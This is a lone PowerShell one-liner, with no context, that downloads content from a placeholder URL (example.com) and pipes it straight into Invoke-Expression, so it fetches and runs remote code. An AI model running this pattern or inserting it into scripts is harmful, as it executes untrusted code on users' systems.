Invoke-WebRequest https://example.com/a | iex
